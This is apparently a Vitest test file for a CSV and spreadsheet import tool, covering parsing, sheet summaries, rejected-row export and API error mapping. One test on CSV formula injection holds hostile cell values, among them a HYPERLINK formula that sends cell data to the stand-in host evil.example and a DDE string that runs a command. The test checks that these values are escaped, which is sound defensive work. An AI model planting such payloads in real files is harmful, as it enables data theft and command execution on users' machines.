import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { placeBatchErrors } from './batch-errors.ts';
import { proposeMapping } from './mapping.ts';
import { defaultSheet, parseCsv, sheetFromCells, summariseWorkbook } from './parse-csv.ts';
import { rejectedRowsCsv } from './rejected-csv.ts';

describe('parseCsv', () => {
  it('reads quoted fields, doubled quotes, line breaks inside quotes, CRLF and a BOM, skipping blank lines', async () => {
    const sheet = await parseCsv('\uFEFFa,b,c\r\n"x, y","say ""hi""","two\nlines"\r\n\r\n1,,3\r\n');
    expect(sheet).toEqual({ headers: ['a', 'b', 'c'], rows: [['x, y', 'say "hi"', 'two\nlines'], ['1', '', '3']] });
  });

  it('counts the rows read under the header row (a file of 3 rows says 3, not 4)', async () => {
    const counts: number[] = [];
    await parseCsv('name,city\nAda,London\nBo,Leeds\nCy,York\n', (rows) => counts.push(rows));
    expect(counts.at(-1)).toBe(3);
  });
});

describe('sheetFromCells', () => {
  it('turns spreadsheet cells into strings, dates as days, and drops blank rows', () => {
    expect(sheetFromCells([[' Name ', 'Zip', 'Since'], ['Ada', 2139, new Date('2024-05-01T00:00:00Z')], [null, null, null]])).toEqual({
      headers: ['Name', 'Zip', 'Since'],
      rows: [['Ada', '2139', '2024-05-01']],
    });
  });
});

describe('summariseWorkbook', () => {
  const workbook = [
    { sheet: 'Notes', data: [[null, null], ['Read me', null]] },
    { sheet: 'Header only', data: [['First Name', 'City']] },
    { sheet: 'Members', data: [[' First Name ', 'City'], ['Ada', 'London'], [null, ''], ['Alan', 'Wilmslow']] },
  ];

  it('lists the sheets in the workbook\'s order with the rows under their header row, blank rows not counted', () => {
    expect(summariseWorkbook(workbook)).toEqual([
      { name: 'Notes', rows: 0, headers: ['Read me', ''] },
      { name: 'Header only', rows: 0, headers: ['First Name', 'City'] },
      { name: 'Members', rows: 2, headers: ['First Name', 'City'] },
    ]);
  });

  it('chooses the first sheet with rows by default, else the first', () => {
    expect(defaultSheet(summariseWorkbook(workbook))).toBe('Members');
    expect(defaultSheet(summariseWorkbook(workbook.slice(0, 2)))).toBe('Notes');
    expect(defaultSheet([])).toBeUndefined();
  });
});

describe('rejectedRowsCsv', () => {
  it('writes the rows left out with their line and reason, quoting what needs it', () => {
    const csv = rejectedRowsCsv(['name', 'city'], [['Ada', 'London'], ['Bo, Jr', '']], [{ row: 1, reason: 'Missing city' }]);
    expect(Papa.parse(csv.slice(1)).data).toEqual([['name', 'city', 'Line', 'Reason'], ['Bo, Jr', '', '3', 'Missing city']]);
  });

  it('starts with a UTF-8 byte-order mark, so that Excel reads its accents', () => {
    const csv = rejectedRowsCsv(['name', 'city'], [['Zoë Müller', 'São Paulo']], [{ row: 0, reason: 'Left out by you' }]);
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toContain('Zoë Müller,São Paulo,2,Left out by you');
  });

  it('escapes every cell a spreadsheet would run as a formula with a leading quote (OWASP CSV injection), headers and multi-line cells included', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1', '=1+1\nsecond line'];
    const csv = rejectedRowsCsv(['=name', 'city'], hostile.map((cell) => [cell, 'York']), hostile.map((_, row) => ({ row, reason: 'Missing postal code' })));
    const [header, ...rows] = Papa.parse<string[]>(csv.slice(1)).data;
    expect(header).toEqual(["'=name", 'city', 'Line', 'Reason']);
    expect(rows.map((r) => r[0])).toEqual(hostile.map((cell) => `'${cell}`));
    expect(rows.map((r) => r.slice(1))).toEqual(hostile.map((_, row) => ['York', String(row + 2), 'Missing postal code']));
  });
});

describe('placeBatchErrors', () => {
  const mapping = proposeMapping(['first name', 'postcode', 'tier']);

  it('maps data.<index>.<path> of the API tree to the file row and column', () => {
    const body = { message: 'Validation error', data: { _errors: [], data: { 1: { address: { postalCode: { _errors: ['Required'] } }, variables: { tier: { _errors: ['Required by the campaign template'] } } } } } };
    expect(placeBatchErrors(body, [10, 20], mapping)).toEqual([
      { row: 20, column: 1, label: 'Postal code', message: 'Required' },
      { row: 20, column: 2, label: 'variable tier', message: 'Required by the campaign template' },
    ]);
  });

  it('keeps messages that name no row, and falls back to the message of a body without a tree', () => {
    expect(placeBatchErrors({ message: 'Failed to create recipients', data: { campaign_id: 'x', reason: 'The campaign is paused' } }, [1], mapping)).toEqual([{ message: 'Failed to create recipients' }]);
    expect(placeBatchErrors({ message: 'Validation error', data: { campaignId: { _errors: ['Campaign not found'] } } }, [1], mapping)).toEqual([{ label: 'campaignId', message: 'Campaign not found' }]);
  });
});
